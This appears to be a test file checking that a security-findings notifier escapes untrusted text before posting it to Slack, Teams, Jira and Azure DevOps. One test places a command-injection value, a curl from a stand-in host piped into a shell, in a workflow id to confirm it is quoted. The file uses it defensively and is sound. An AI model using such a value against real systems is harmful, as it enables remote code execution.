/** Texts of products and people, in whatever field, steer no channel. The same texts for all of them. */
import assert from 'node:assert/strict';

import type { Message } from '../../activities/notify/message.ts';
import { mainPost, movedPost, threadPost } from '../../channels/slack/message.ts';
import { card, movedCard } from '../../channels/teams/card.ts';
import { html } from '../../channels/tickets/azure-devops/html.ts';
import { adf } from '../../channels/tickets/jira/adf.ts';
import { historyComment, ticketText } from '../../channels/tickets/ticket-text.ts';
import { startOptions } from '../../client/start-options.ts';
import type { LedgerRow } from '../../domain/story.ts';
import { observation } from '../builders/finding.ts';
import { message, WAITING } from '../builders/notice.ts';
import { problem } from '../builders/problem.ts';
import { HOSTILE, steersIn } from '../hostile-text.ts';

/** A notification in which every field of others holds that text. */
function holding(text: string): Message {
  const resource = { type: 'AwsS3Bucket', id: `arn:aws:s3:::${text}`, name: text };
  const request = {
    decision: 'approve',
    by: text,
    why: text,
    until: null,
    planHash: null,
  } as const;
  const of: Partial<LedgerRow> = {
    ...WAITING,
    title: text,
    problem: { ...problem, control: null, findingType: text, resource, unmappedReason: text },
    owner: { team: text, because: text },
    waitsFor: `${text} approves it until 2026-11-24T10:00Z. ${text}`,
    ladder: { asked: text, next: text, overdue: 0 },
    planSummary: text,
    planDetail: [text, `Settings now: ${text}`],
    request,
  };
  const told = message({ actor: text, text }, of);
  return { ...told, finding: { ...told.finding, account: { id: '1', alias: text } } };
}

const CHANNELS: Readonly<Record<string, (of: Message) => readonly unknown[]>> = {
  Slack: (of) => [mainPost(of), movedPost(of, 'x'), threadPost(of)],
  Teams: (of) => [card(of, LIMITS, null), movedCard(of, 'x', LIMITS)],
  Jira: (of) => [ticketText(of).title, adf(ticketText(of).body), adf(historyComment(of).body)],
  'Azure DevOps': (of) => [ticketText(of).title, html(ticketText(of).body)],
  'the list of the Temporal Web UI': ({ finding: { title, resource } }) => {
    const about = { ...problem, resource };
    const { staticSummary, staticDetails } = startOptions('id', about, { ...observation(), title });
    return [staticSummary, staticDetails];
  },
};
const LIMITS = { text: 2_000, lines: 10 };

for (const [channel, shown] of Object.entries(CHANNELS)) {
  for (const { tries, text } of HOSTILE) {
    it(`${channel} shows ${tries} without effect`, () => {
      for (const line of shown(holding(text))
        .flatMap(textsIn)
        .flatMap((one) => one.split('\n'))) {
        assert.deepEqual(steersIn(line), []);
        assert.doesNotMatch(line.trim(), /^SECOND LINE/);
      }
    });
  }
}

it('no text of others becomes a link, a mention or a format in a channel', () => {
  for (const { text } of HOSTILE) {
    const of = holding(text);
    const post = JSON.stringify([mainPost(of), threadPost(of)]);
    assert.doesNotMatch(post, /"type":"mrkdwn"/, 'only plain text in blocks');
    assert.doesNotMatch(mainPost(of).text, /<(?:http|!|@|#)/);
    assert.doesNotMatch(
      JSON.stringify(card(of, LIMITS, null)),
      /"TextBlock"|\{\{|\$\{|"url":"[^"]*evil/,
    );
    assert.doesNotMatch(
      JSON.stringify(adf(ticketText(of).body)),
      /"href":"[^"]*evil|"type":"mention"/,
    );
    assert.doesNotMatch(html(ticketText(of).body), /<a [^>]*evil|onclick="/);
  }
});

it('the command on a card quotes an id, so that a shell runs nothing else', () => {
  const told = message();
  const finding = { ...told.finding, workflowId: "x'; curl evil.example | sh #" };
  const text = JSON.stringify(card({ ...told, finding }, LIMITS, null));
  assert.ok(text.includes(String.raw`findings show 'x'\\''; curl evil.example | sh #'`), text);
});

/** All texts in a value, keys left out. */
function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}
